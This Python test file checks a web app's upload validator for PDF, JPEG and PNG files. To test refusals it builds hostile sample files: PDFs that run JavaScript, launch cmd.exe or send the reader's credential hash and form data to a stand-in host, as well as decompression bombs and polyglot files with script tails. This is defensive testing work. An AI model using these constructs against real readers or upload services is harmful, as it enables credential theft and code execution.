"""Files from outside: only PDF, JPEG and PNG by content, and nothing that acts, hides or swells."""

from __future__ import annotations

import io
import time
import zipfile
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageFile
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from webapp.domain.files import intake, pdf_intake
from webapp.errors import Invalid


def pdf(change=None, **save) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    output = io.BytesIO()
    document.save(output, **save)
    return output.getvalue()


def image(kind: str, size: tuple[int, int] = (60, 40), mode: str = "RGB", **save) -> bytes:
    output = io.BytesIO()
    Image.new(mode, size).save(output, kind, **save)
    return output.getvalue()


RAR = b"Rar!\x1a\x07\x01\x00"


def wrong(content: bytes, name: str = "proof.pdf") -> str:
    with pytest.raises(Invalid) as refused:
        intake.check(content, name, "proof")
    assert refused.value.faults[0].field == "proof"
    return refused.value.code


def test_plain_pdf_is_kept_as_it_came():
    content = pdf()

    assert intake.check(content, "C:\\scan\\證明.pdf", "proof") == intake.Accepted(
        content, "application/pdf", "證明.pdf"
    )


def test_pdf_with_compressed_tables_is_kept():
    content = pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)

    assert intake.check(content, "a.pdf", "proof").content == content


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_png_of_every_mode_is_drawn_anew(mode):
    accepted = intake.check(image("PNG", mode=mode), "a.png", "proof")

    assert accepted.media_type == "image/png"
    assert Image.open(io.BytesIO(accepted.content)).size == (60, 40)


@pytest.mark.parametrize("mode", ["L", "RGB", "CMYK"])
def test_jpeg_of_every_mode_is_drawn_anew(mode):
    accepted = intake.check(image("JPEG", mode=mode), "a.jpg", "proof")

    assert (accepted.media_type, Image.open(io.BytesIO(accepted.content)).mode) == ("image/jpeg", "RGB")


def test_picture_loses_position_and_tail_and_stands_upright():
    exif = Image.Exif()
    exif[0x0112] = 6  # lying on its side
    exif[0x010E] = "22.1N 113.5E"
    content = image("JPEG", exif=exif) + b"<script>alert(1)</script>"

    kept = intake.check(content, "a.jpg", "proof").content

    drawn = Image.open(io.BytesIO(kept))
    assert (drawn.size, len(drawn.getexif())) == ((40, 60), 0)
    assert b"script" not in kept
    assert b"113.5E" not in kept


def test_large_picture_is_made_smaller():
    accepted = intake.check(image("JPEG", (5000, 3000)), "a.jpg", "proof")

    assert max(Image.open(io.BytesIO(accepted.content)).size) == intake.LONGEST_SIDE


def test_picture_bomb_is_refused_before_it_swells():
    head = image("PNG", (10, 10))
    size = (60_000).to_bytes(4) + (60_000).to_bytes(4)
    chunk = b"IHDR" + size + head[24:29]
    bomb = head[:12] + chunk + zlib.crc32(chunk).to_bytes(4) + head[33:]

    assert wrong(bomb) == "image_too_large"


def test_encrypted_pdf_is_refused():
    assert wrong(pdf(encryption=pikepdf.Encryption(owner="o", user="u"))) == "file_locked"
    assert wrong(pdf(encryption=pikepdf.Encryption(owner="o", user=""))) == "file_locked"


def _opens_script(document):
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _names_script(document):
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("1")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def _launches(document):
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))


def _attaches(document):
    document.attachments["a.exe"] = b"MZ"


def _has_form_program(document):
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"))


def _annotates_film(document):
    document.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)])


def _opens_another_host(document):
    """As who reads it signs in to that host by himself, his password's hash goes there."""
    document.Root.OpenAction = Dictionary(S=Name.GoToR, F=String("\\\\files.example\\a.pdf"), D=Array([0, Name.Fit]))


def _sends_a_form(document):
    document.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("https://files.example/"))


def _draws_what_lies_elsewhere(document):
    picture = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
    picture.F = String("\\\\files.example\\a.png")
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=picture))


def _opens_a_page_elsewhere(document):
    document.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://files.example/"))


def _opens_a_page_elsewhere_with_a_page(document):
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://files.example/")))


def _reads_on_elsewhere(document):
    document.Root.OpenAction = Dictionary(S=Name.Thread, F=String("\\\\files.example\\a.pdf"))


@pytest.mark.parametrize(
    "change",
    [
        _opens_a_page_elsewhere,
        _opens_a_page_elsewhere_with_a_page,
        _reads_on_elsewhere,
        _opens_script,
        _names_script,
        _launches,
        _attaches,
        _has_form_program,
        _annotates_film,
        _opens_another_host,
        _sends_a_form,
        _draws_what_lies_elsewhere,
    ],
)
def test_pdf_that_acts_or_carries_files_is_refused(change):
    assert wrong(pdf(change)) == "file_acts"
    assert wrong(pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)) == "file_acts"


def test_pdf_with_links_only_is_accepted():
    def link(document):
        address = Dictionary(S=Name.URI, URI=String("https://example.com"))
        document.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=address)])

    assert intake.check(pdf(link), "a.pdf", "proof").media_type == "application/pdf"


def test_pdf_whose_tables_swell_is_refused_before_it_is_opened():
    packed = zlib.compress(b"0" * (80 * 1024 * 1024), 9)
    head = f"5 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)}>>\nstream\n".encode()

    assert wrong(b"%PDF-1.7\n" + head + packed + b"\nendstream\nendobj\n%%EOF") == "file_broken"


def with_table(packed: bytes, about: bytes = b"/Filter /FlateDecode") -> bytes:
    """A PDF that keeps its seventh object in a table, which says `about` itself what it is."""
    table = b"5 0 obj\n<< /N 1 /First 4 /Length %d %s >>\nstream\n%s\nendstream\nendobj\n" % (
        len(packed),
        about,
        packed,
    )
    pages = b"1 0 obj\n<< /Pages 2 0 R >>\nendobj\n", b"2 0 obj\n<< /Kids [3 0 R] /Count 1 >>\nendobj\n"
    content, places = b"%PDF-1.7\n", {}
    for number, one in zip(
        (1, 2, 3, 5), (*pages, b"3 0 obj\n<< /Type /Page /X 7 0 R >>\nendobj\n", table), strict=True
    ):
        places[number] = len(content)
        content += one
    rows = b"".join(
        bytes([2, 0, 0, 0, 5, 0])
        if number == 7
        else bytes([number in places]) + places.get(number, 0).to_bytes(4) + b"\0"
        for number in range(8)
    )
    start = len(content)
    content += b"8 0 obj\n<< /Type /XRef /Size 8 /Root 1 0 R /W [1 4 1] /Length %d >>\nstream\n" % len(rows)
    return content + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def test_table_that_says_nothing_of_itself_is_read():
    assert intake.check(with_table(zlib.compress(b"7 0 << /A 1 >>")), "a.pdf", "proof").media_type == "application/pdf"


@pytest.mark.parametrize(
    ("about", "times"),
    [
        (b"/Filter /FlateDecode", 1),  # no type: a reader takes it all the same
        (b"/Type /Obj#53tm /Filter /FlateDecode", 1),
        (b"/Filter [/FlateDecode /FlateDecode]", 2),
        (b"/Filter /LZWDecode", 0),
        (b"/Filter /LZ#57Decode", 0),
        (b"/Filter % of another object\n9 0 R", 0),
    ],
)
def test_pdf_whose_table_swells_whatever_it_is_called_is_refused(about, times):
    packed = b"7 0 << /A 1 >>" + b" " * (pdf_intake.LARGEST_TABLE + 1)
    for _ in range(times):
        packed = zlib.compress(packed, 9)

    assert wrong(with_table(packed if times else b"\x80", about)) == "file_broken"


def test_a_file_of_filters_alone_takes_no_time():
    began = time.process_time()
    with pytest.raises(Invalid):
        intake.check(b"%PDF-1.7\n/XRef " + b"/Filter %" * 900_000 + b"\n%%EOF", "a.pdf", "proof")

    assert time.process_time() - began < 5


def test_a_file_of_tables_alone_takes_no_time():
    """Each name would have the same stream unpacked once more."""
    names, stream = b"/XRef " * 600, b"stream\n" + zlib.compress(b" ") + b" " * 2_000
    began = time.process_time()
    with pytest.raises(Invalid):
        intake.check(b"%PDF-1.7\n" + (names + stream) * 1_000 + b"\n%%EOF", "a.pdf", "proof")

    assert time.process_time() - began < 5


def archive(**about) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as packed:
        packed.writestr("a.html", "<script>alert(1)</script>")
        packed.comment = about.get("comment", b"")
    return output.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        b"<html><script>alert(1)</script><!--" + pdf(),
        b"GIF89a" + pdf(),
        b"MZ\x90\x00" + pdf(),
        b"#!/bin/sh\n" + pdf(),
        archive()[:200] + pdf(),
        pdf() + archive(),
        pdf() + archive(comment=b"\n%%EOF\n"),
        pdf() + b"<html><script>alert(1)</script>",
        pdf() + b"9 0 obj\n<html><script>alert(1)</script>",
        pdf() + b"trailer\n<html><script>alert(1)</script>",
        pdf() + RAR,
        pdf() + b"7z\xbc\xaf\x27\x1c",
        pdf() + b"MZ\x90\x00" + pdf(),
        pdf() + b"<script>alert(1)</script>\nstartxref\n0\n%%EOF\n",
        pdf(lambda document: setattr(document.Root, "X", document.make_stream(RAR)), compress_streams=False),
    ],
)
def test_pdf_that_is_another_file_as_well_is_refused(content):
    """A polyglot: a reader of PDFs passes over what stands before and behind, other programs see theirs."""
    assert wrong(content) == "file_more"


def test_pdf_that_was_added_to_is_kept():
    """As by a signature: its objects, a table and an end stand behind the ones before."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf(linearize=True)))
    writer.add_object(generic.DictionaryObject({generic.NameObject("/Added"): generic.BooleanObject(True)}))
    output = io.BytesIO()
    writer.write(output)
    added = output.getvalue()

    assert (added.count(b"%%EOF"), intake.check(added, "a.pdf", "proof").content == added) == (3, True)


def test_a_file_of_ends_alone_takes_no_time():
    began = time.process_time()
    with pytest.raises(Invalid):
        intake.check(b"%PDF-1.7\n" + b"%%EOF\n" * 300_000, "a.pdf", "proof")

    assert time.process_time() - began < 5


def test_space_around_a_pdf_is_no_other_file():
    for content in (b"\xef\xbb\xbf" + pdf(), b"\r\n" + pdf(), pdf() + b"\0" * 600):
        assert intake.check(content, "a.pdf", "proof").media_type == "application/pdf"


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_picture_that_is_another_file_as_well_is_a_picture_alone(kind):
    kept = intake.check(image(kind) + archive() + pdf(), "a.jpg", "proof").content

    assert not zipfile.is_zipfile(io.BytesIO(kept))
    assert b"%PDF" not in kept


def test_pdf_of_too_many_pages_is_refused():
    def fill(document):
        for _page in range(pdf_intake.MOST_PAGES):
            document.add_blank_page()

    assert wrong(pdf(fill)) == "file_too_long"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "file_empty"),
        (b"x" * (intake.LARGEST + 1), "file_too_large"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "file_kind"),
        (b"<html>%PD", "file_kind"),
        (b"GIF89a\x01\x00\x01\x00", "file_kind"),
        (b"PK\x03\x04", "file_kind"),
        (b"MZ\x90\x00", "file_kind"),
        (b"%PDF-1.7 nothing else", "file_broken"),
        (pdf().replace(b"%%EOF", b"<html>"), "file_broken"),
        (image("JPEG")[:200], "file_broken"),
        (image("PNG")[:60], "file_broken"),
        (b"\xff\xd8\xff" + b"0" * 100, "file_broken"),
    ],
)
def test_everything_else_is_refused(content, code):
    assert wrong(content, "proof.jpg") == code


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_picture_that_ends_early_is_refused_also_where_pillow_would_fill_it_up(monkeypatch, kind):
    """Loading WeasyPrint changes Pillow for the whole process."""
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)

    with pytest.raises(Invalid) as refused:
        intake.check(image(kind)[:-30], "proof", "proof")

    assert refused.value.code == "file_broken"
    assert ImageFile.LOAD_TRUNCATED_IMAGES
